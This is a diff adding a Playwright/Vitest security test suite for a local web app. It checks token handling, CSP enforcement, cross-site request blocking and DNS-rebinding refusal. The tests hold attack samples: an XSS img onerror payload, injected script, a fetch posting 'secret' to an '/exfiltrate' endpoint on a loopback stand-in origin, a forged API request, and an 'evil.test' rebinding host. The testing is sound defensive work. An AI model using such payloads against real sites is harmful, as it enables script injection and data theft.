@@ -1,0 +1,134 @@
+/**
+ * Web mode's defences seen from a real Chromium: the token leaves the address bar and never lands
+ * in lasting storage, the page's CSP stops injected script and outside requests, another site in
+ * the same browser cannot make the API do anything, and a DNS-rebinding name is refused.
+ */
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { chromium, type Browser, type Page } from 'playwright-core';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { CHROMIUM_PATH } from '../support/chromium.js';
+import { startServe, type ServeProcess } from '../support/serve-process.js';
+
+let serve: ServeProcess;
+let browser: Browser;
+/** Another origin on loopback: it records what reaches it, and serves the "attacker" page. */
+let other: Server;
+let otherOrigin: string;
+const reached: string[] = [];
+
+beforeAll(async () => {
+  other = createServer((req, res) => {
+    reached.push(`${req.method} ${req.url}`);
+    res.writeHead(200, { 'Content-Type': 'text/html' });
+    res.end('<!doctype html><title>elsewhere</title><p>another site</p>');
+  });
+  await new Promise<void>((r) => other.listen(0, '127.0.0.1', () => r()));
+  otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
+  [serve, browser] = await Promise.all([
+    startServe(),
+    chromium.launch({
+      executablePath: CHROMIUM_PATH,
+      headless: true,
+      // evil.test resolves to loopback, as a rebinding attacker's name would.
+      args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-dev-shm-usage', '--host-resolver-rules=MAP evil.test 127.0.0.1'],
+    }),
+  ]);
+}, 120_000);
+afterAll(async () => {
+  await browser?.close();
+  await serve?.stop();
+  other?.closeAllConnections();
+  other?.close();
+});
+
+async function openApp(): Promise<Page> {
+  const page = await browser.newPage();
+  await page.goto(serve.url);
+  await page.locator('[data-app-state="loaded"]').waitFor({ timeout: 60_000 });
+  return page;
+}
+
+test('the token leaves the address bar and is kept for this tab only', async () => {
+  const page = await openApp();
+  expect(page.url()).not.toContain(serve.token);
+  // replaceState swapped the address in place: no history entry or cookie carries the token.
+  expect(await page.evaluate(() => [location.href, document.cookie])).toEqual([expect.not.stringContaining(serve.token), '']);
+  const stored = await page.evaluate(() => ({ local: JSON.stringify({ ...localStorage }), session: JSON.stringify({ ...sessionStorage }) }));
+  expect(stored.local).not.toContain(serve.token);
+  expect(stored.session).toContain(serve.token);
+  await page.goBack();
+  expect(page.url()).not.toContain(serve.token);
+  await page.close();
+});
+
+test('the page\'s CSP stops injected script and requests to other origins', async () => {
+  const page = await openApp();
+  const outcome = await page.evaluate(async (target) => {
+    const violations: string[] = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
+    (window as unknown as { injected?: boolean }).injected = false;
+    const div = document.createElement('div');
+    div.innerHTML = '<img src="data:," onerror="window.injected = true">';
+    document.body.appendChild(div);
+    const s = document.createElement('script');
+    s.textContent = 'window.injected = true';
+    document.body.appendChild(s);
+    let fetched = 'sent';
+    try { await fetch(`${target}/exfiltrate`, { method: 'POST', body: 'secret', mode: 'no-cors' }); } catch { fetched = 'blocked'; }
+    const img = new Image();
+    await new Promise((r) => { img.onerror = r; img.onload = r; img.src = `${target}/pixel`; });
+    return { injected: (window as unknown as { injected?: boolean }).injected, fetched, violations };
+  }, otherOrigin);
+  expect(outcome.injected).toBe(false);
+  expect(outcome.fetched).toBe('blocked');
+  expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-attr', 'script-src-elem', 'connect-src', 'img-src']));
+  expect(reached).toEqual([]);
+  await page.close();
+});
+
+test('another site open in the same browser cannot make the API act (no token, wrong Origin)', async () => {
+  const app = await openApp();
+  const before = await app.evaluate(() => JSON.stringify(sessionStorage));
+  const attacker = await browser.newPage();
+  await attacker.goto(`${otherOrigin}/attack`);
+  const attempts = await attacker.evaluate(async (api) => {
+    const out: string[] = [];
+    // A "simple" request needs no preflight, so only the server's own checks stand in its way.
+    for (const body of ['{"endpoint":"http://127.0.0.1:1","region":"us-east-1","name":"planted"}']) {
+      try {
+        const r = await fetch(`${api}/api/addEndpointConnection`, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body });
+        out.push(`no-cors ${r.type}`);
+      } catch (e) { out.push(`no-cors threw ${(e as Error).name}`); }
+      try {
+        const r = await fetch(`${api}/api/listConnections`, { method: 'POST', body: '{}' });
+        out.push(`cors ${r.status}`);
+      } catch (e) { out.push(`cors threw ${(e as Error).name}`); }
+    }
+    return out;
+  }, serve.origin);
+  // The page can read nothing back, and the connection was not planted.
+  expect(attempts).toEqual(['no-cors opaque', 'cors threw TypeError']);
+  const names = await app.evaluate(async (token) => {
+    const r = await fetch('/api/listConnections', { method: 'POST', headers: { Authorization: `Bearer ${token}` }, body: '{}' });
+    return ((await r.json()) as { connections: Array<{ name: string }> }).connections.map((c) => c.name);
+  }, serve.token);
+  expect(names).not.toContain('planted');
+  expect(await app.evaluate(() => JSON.stringify(sessionStorage))).toBe(before);
+  await attacker.close();
+  await app.close();
+});
+
+test('a DNS-rebinding name that resolves to loopback gets neither the page nor the API', async () => {
+  const port = new URL(serve.origin).port;
+  const page = await browser.newPage();
+  const res = await page.goto(`http://evil.test:${port}/?token=${serve.token}`);
+  expect(res?.status()).toBe(403);
+  expect(await page.textContent('body')).toMatch(/ForbiddenHost/);
+  const api = await page.evaluate(async (token) => {
+    const r = await fetch('/api/listConnections', { method: 'POST', headers: { Authorization: `Bearer ${token}` }, body: '{}' });
+    return [r.status, ((await r.json()) as { error: { name: string } }).error.name];
+  }, serve.token);
+  expect(api).toEqual([403, 'ForbiddenHost']);
+  await page.close();
+});
